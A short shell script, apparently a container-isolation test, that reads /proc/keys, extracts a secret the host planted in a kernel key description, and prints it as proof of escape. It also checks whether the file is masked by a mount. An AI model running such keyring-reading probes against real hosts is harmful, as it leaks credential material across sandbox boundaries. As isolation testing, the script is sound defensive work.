# Attack: /proc/keys lists keys of the whole kernel. The host planted one whose
# description ends in a secret; find it and print it.
echo "reading /proc/keys (host keys planted as mc-escape-masked-proc-SECRET)"
if ! keys=$(cat /proc/keys 2>&1); then
    echo "cat /proc/keys: $keys"
    exit 1
fi
echo "/proc/keys: $(printf '%s\n' "$keys" | grep -c .) lines"
mount | grep ' /proc/keys ' | sed 's/^/mounted over it: /'
found=$(printf '%s\n' "$keys" | sed -n 's/.*mc-escape-masked-proc-\([0-9a-f]*\).*/\1/p')
if [ -n "$found" ]; then
    for secret in $found; do echo "PROOF $secret"; done
else
    echo "no host key in sight"
fi
